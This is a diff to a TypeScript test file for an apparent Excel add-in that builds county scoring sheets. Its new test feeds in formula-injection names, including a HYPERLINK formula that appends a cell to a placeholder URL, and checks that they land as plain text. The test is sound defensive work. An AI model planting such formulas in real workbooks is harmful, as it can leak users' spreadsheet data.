@@ -4,7 +4,9 @@
  */
 import { runSelection } from "../../src/core/select";
 import type { SheetData } from "../../src/core/types";
+import { a1 } from "../../src/excel/address";
 import { MemoryWorkbook } from "../../src/excel/memory";
+import { isFormula } from "../../src/excel/ops";
 import { zgFunctions } from "../../src/excel/zgFunctions";
 import { detectHeader, readCounties } from "../../src/taskpane/scoreInput";
 import { scoreSheet } from "../../src/taskpane/scoreSheet";
@@ -40,8 +42,9 @@ test.each(["full", "max"] as const)("merged city cells, std %s: the sheet's tota
   const result = runSelection(read.counties, { std });
   const content = scoreSheet({ completion: { sheet, mapping }, county: null, counties: read.counties, result, lang: "zh" });
   const w = await book.writeSheet(content);
-  const cities = content.cells.flat().filter((v) => typeof v === "string" && v.startsWith("='完成情况'!$A$"));
-  expect(cities).toHaveLength(0);
+  const formulas = content.cells.flat().filter(isFormula).map((v) => v.formula);
+  expect(formulas.some((x) => x.includes("ZG.COMPLETION"))).toBe(true);
+  expect(formulas.filter((x) => x.startsWith("='完成情况'!$A$"))).toHaveLength(0);
   const countyRow = (county: string) => content.cells.findIndex((r) => r[1] === county);
   for (const c of result.counties) {
     const r = countyRow(c.county);
@@ -61,4 +64,46 @@ test.each(["full", "max"] as const)("merged city cells, std %s: the sheet's tota
   const rec = content.cells.findIndex((r) => r[0] === "设区市" && r[1] === "推荐县（市、区）") + 1;
   expect(book.value(w.sheet, rec, 1)).toBe(result.counties.find((c) => c.recommended && c.city === "杭州市")!.county);
   expect(String(book.value(w.sheet, rec, 2))).toContain("总分");
+});
+
+// Excel API reference, Range.values: "If the returned value starts with a plus ("+"), minus ("-"), or equal sign
+// ("="), Excel interprets this value as a formula." County names come from the user's workbook: they are text.
+test("county and city names that look like formulas land on the results sheet as the same text", async () => {
+  const names = ["-临平区", '=HYPERLINK("http://x"&B5)', "=1+1", "@x", "+1", "Sheet1!A1"];
+  const sheet: SheetData = {
+    name: "完成情况",
+    cells: [
+      ["设区市", "县（市、区）", "指标", "目标", "完成"],
+      ...names.flatMap((county, i) => [
+        [i < 3 ? "=杭州" : "宁波市", county, "新增工业机器人", "100台", `${100 + i * 7}台`],
+        [i < 3 ? "=杭州" : "宁波市", county, "研发费用支出增长", "10%", `${9 + i}%`],
+      ]),
+    ],
+  };
+  const book = new MemoryWorkbook({ functions: zgFunctions() });
+  book.addSheet(sheet);
+  const read0 = await book.readSheet("完成情况");
+  const mapping = detectHeader(read0)!;
+  const read = readCounties(read0, mapping, null, null);
+  if (!read.ok) throw new Error(read.error.en);
+  const result = runSelection(read.counties, {});
+  const content = scoreSheet({ completion: { sheet: read0, mapping }, county: null, counties: read.counties, result, lang: "zh" });
+  const w = await book.writeSheet(content);
+  const written = book.sheet(w.sheet)!;
+  for (const name of names) {
+    const rows = written.cells.map((r, i) => (r[1] === name ? i : -1)).filter((i) => i >= 0);
+    // The city stage, and the province stage where the county was recommended.
+    expect(rows.length).toBeGreaterThanOrEqual(1);
+    for (const r of rows) expect([name, book.value(w.sheet, r, 1), book.isFormula(w.sheet, a1(r, 1))]).toEqual([name, name, false]);
+  }
+  const cityCells = written.cells.map((r, i) => (r[0] === "=杭州" ? i : -1)).filter((i) => i >= 0);
+  expect(cityCells.length).toBeGreaterThan(0);
+  for (const r of cityCells) expect([book.value(w.sheet, r, 0), book.isFormula(w.sheet, a1(r, 0))]).toEqual(["=杭州", false]);
+  // The detail section refers to the user's cells: the names come through those references as the same text.
+  const detail = written.cells.findIndex((r) => r[0] === "三、指标明细（设区市推荐环节）") + 2;
+  names.forEach((name, i) => expect(book.value(w.sheet, detail + i * 2, 1)).toBe(name));
+  // Only cells our code built are formulas.
+  const formulas = content.cells.flat().filter(isFormula).map((v) => v.formula);
+  expect(formulas.filter((x) => [...names, "=杭州"].includes(x))).toEqual([]);
+  expect(formulas.some((x) => x.startsWith("=SUMIFS("))).toBe(true);
 });
